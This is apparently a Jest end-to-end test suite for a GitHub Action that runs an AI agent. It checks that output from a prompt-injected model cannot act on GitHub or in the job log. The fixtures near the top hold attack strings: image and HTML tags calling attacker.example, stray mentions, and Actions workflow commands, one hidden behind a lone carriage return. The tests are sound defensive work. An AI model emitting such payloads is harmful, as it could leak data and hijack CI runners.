import { describe, expect, it } from '@jest/globals'
import { e2eSuite, aliceFiles } from '../../__fixtures__/e2e-suite.js'
import { EDIT_MONTH_CALL } from '../../__fixtures__/scripts.js'
import { addPull } from '../../__fixtures__/github-builders.js'
import {
  API_KEY,
  type E2E,
  issueCommentEvent,
  RUN_ID,
  type RunResult,
  TOKEN
} from '../../__fixtures__/e2e-harness.js'
import { runnerCommands } from '../../__fixtures__/runner-commands.js'
import type { ScriptStep } from '../../__fixtures__/scripted-model.js'

// A prompt-injected agent, run through the action's bundle: what it says,
// the tool calls it makes and the files it names reach GitHub and the job
// log, and none of it may act there (docs/security.md items 19 and 20).

/** What the injected agent tries to post. */
const LIVE = [
  '@torvalds',
  '@acme/security-team',
  'acme/other-repo#5',
  '![x](https://attacker.example/?d=1)',
  '<img src=https://attacker.example/a.png>'
]
const WORKFLOW_COMMANDS = [
  '::add-mask::x',
  '::stop-commands::abc',
  '##[set-output name=a;]b'
]
const ATTACK = [
  `Done. ${LIVE.join(' ')} thanks @alice`,
  ...WORKFLOW_COMMANDS,
  'and a lone CR\r::add-mask::y'
].join('\n')
const BACKTICK_FILE = 'notes`x.md'

const start = e2eSuite()

async function setup(script: ScriptStep[]): Promise<E2E> {
  return aliceFiles(await start(script))
}

/** Markdown without its fenced blocks and code spans, which GitHub shows as code. */
function outsideCode(markdown: string): string {
  const noFences = markdown.replace(
    /^(`{3,}|~{3,})[^\n]*\n[\s\S]*?^\1\s*$/gm,
    ''
  )
  return noFences.replace(/(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, '')
}

/** None of the injected constructs is live in `text`. */
function expectInert(text: string, where: string, constructs = LIVE): void {
  for (const live of constructs)
    expect({ where, live, found: text.includes(live) }).toEqual({
      where,
      live,
      found: false
    })
}

/** Every body the action sent to GitHub's REST API (comments, edits, PRs, reviews). */
function postedBodies(env: E2E): string[] {
  const bodies: string[] = []
  for (const call of env.github.calls) {
    if (call.method === 'GET') continue
    const body = call.body as Record<string, unknown> | undefined
    for (const field of ['body', 'title'])
      if (typeof body?.[field] === 'string') bodies.push(body[field] as string)
    for (const comment of (body?.comments ?? []) as { body: string }[])
      bodies.push(comment.body)
  }
  return bodies
}

/** The job log executes nothing but the action's own commands. */
function expectNoInjectedCommands(result: RunResult): void {
  const log = `${result.stdout}\n${result.stderr}`
  for (const command of runnerCommands(log)) {
    expect(command.form).toBe('::')
    expect(['add-mask', 'group', 'endgroup', 'warning', 'error']).toContain(
      command.name
    )
    // The known secrets: the inputs' and the step environment's.
    if (command.name === 'add-mask')
      expect([TOKEN, API_KEY, 'actions-runtime-secret-value']).toContain(
        command.data
      )
  }
}

describe('nothing the model controls acts through what the action posts', () => {
  it('fix: the tracking comment, PR title and body, commit message, job summary and job log carry nothing live', async () => {
    const env = await setup([
      {
        text: ATTACK,
        toolCalls: [
          {
            name: 'bash',
            arguments: {
              command: `printf '%s\\n' '${WORKFLOW_COMMANDS.join("' '")}' '${LIVE.slice(0, 3).join(' ')}'`
            }
          },
          {
            name: 'write',
            arguments: { path: BACKTICK_FILE, content: `${ATTACK}\n` }
          },
          EDIT_MONTH_CALL
        ]
      },
      // The model's title line is model text too.
      { text: `Title: Fix ${LIVE.slice(0, 3).join(' ')}\n${ATTACK}` }
    ])
    const result = await env.run(
      issueCommentEvent('/agent fix @torvalds acme/other-repo#5 the month')
    )
    expect(result.outputs.conclusion).toBe('changed')

    const tracking = env.github.comments.filter(
      (comment) => comment.user.login === 'github-actions[bot]'
    )
    expect(tracking).toHaveLength(1)
    // The tool log names the bash command in a code span, which GitHub
    // shows as code; everything else is inert.
    expectInert(outsideCode(tracking[0].body), 'tracking comment')
    expect(tracking[0].body).toMatch(/✓ Ran `printf [^`\n]*@torvalds[^`\n]*…`/)
    expect(tracking[0].body).toContain('thanks @alice')
    // The file name with a backtick stays inside its code span.
    expect(tracking[0].body).toContain('``notes`x.md`` (added)')
    for (const body of postedBodies(env)) expectInert(outsideCode(body), body)

    const pull = [...env.github.pulls.values()][0]
    expectInert(pull.title, 'PR title', LIVE.slice(0, 3))
    expectInert(pull.body, 'PR body')
    expect(pull.body).toContain('thanks @alice')
    expect(pull.body).toContain('Requested by @alice')
    const branch = `agent/issue-7-${RUN_ID}`
    const message = env.bare(['log', '-1', '--format=%B', branch])
    expect(message.split('\n')[0]).toMatch(/^Fix @\u200Btorvalds/)
    // Plain text: GitHub renders no image or HTML there, but links mentions.
    expectInert(message, 'commit message', LIVE.slice(0, 3))

    expectInert(outsideCode(result.summary), 'job summary')
    expect(result.summary).toContain('thanks @alice')

    // The attack reached the job log, escaped.
    expect(result.stdout).toContain('##\\[set-output name=a;]b')
    // The lone CR starts a line for the runner: it gets its own prefix.
    expect(result.stdout).toContain('│ ::add-mask::y')
    expectNoInjectedCommands(result)
    expect(`${result.stdout}${result.stderr}`).not.toMatch(
      /(?:^|[\r\n])\s*::stop-commands::/
    )
  }, 60_000)

  it('review: the review body and its inline comments carry nothing live', async () => {
    const env = await setup([
      {
        toolCalls: [
          {
            name: 'review_comment',
            arguments: {
              path: 'src/extra.js',
              line: 1,
              body: ATTACK,
              // A suggestion is code: it stays in its fence, whatever it holds.
              suggestion: `x \`\`\` ${LIVE.join(' ')}`
            }
          },
          {
            name: 'review_comment',
            arguments: { path: 'src/dates.js', line: 4, body: ATTACK }
          }
        ]
      },
      { text: ATTACK }
    ])
    env.branch('feature/review', {
      'src/extra.js': 'export const answer = 41\n'
    })
    addPull(env.github, {
      number: 4,
      title: 'Extra',
      body: '',
      head: 'feature/review'
    })
    const result = await env.run(
      issueCommentEvent('/agent review', { issue: 4, pr: true })
    )
    expect(result.outputs.conclusion).toBe('reviewed')
    const [review] = env.github.reviews
    expectInert(review.body, 'review body')
    expect(review.body).toContain('thanks @alice')
    expect(review.comments).toHaveLength(1)
    expectInert(outsideCode(review.comments[0].body), 'inline comment')
    expect(review.comments[0].body).toContain(
      `\n\n\`\`\`\`suggestion\nx \`\`\` ${LIVE.join(' ')}\n\`\`\`\`\n<!-- agent-action -->`
    )
    expect(review.comments[0].body).toContain('thanks @alice')
    expectNoInjectedCommands(result)
  }, 60_000)

  it('a 5 MB single-line tool output keeps the job summary under 1 MiB and the comment under its limit', async () => {
    const env = await setup([
      {
        toolCalls: [
          {
            name: 'bash',
            arguments: {
              command:
                "head -c 5000000 /dev/zero | tr '\\0' a > big.txt; cat big.txt"
            }
          }
        ]
      },
      { text: 'Wrote big.txt.' }
    ])
    const result = await env.run(issueCommentEvent('/agent write big.txt'))
    // A new file over 1 MiB breaks the write policy: the patch is all there is.
    expect(result.outputs.conclusion).toBe('failed')
    expect(Buffer.byteLength(result.summary)).toBeLessThan(1024 * 1024)
    // No artifact service in this run: the summary keeps what fits, and says so.
    expect(result.summary).toContain('the job summary keeps only the first')
    const [tracking] = env.github.comments.filter(
      (comment) => comment.user.login === 'github-actions[bot]'
    )
    expect(tracking.body.length).toBeLessThan(65_536)
    expect(tracking.body).toContain(
      'could not be uploaded as a workflow artifact'
    )
    for (const body of postedBodies(env))
      expect(body.length).toBeLessThan(65_536)
  }, 60_000)
})
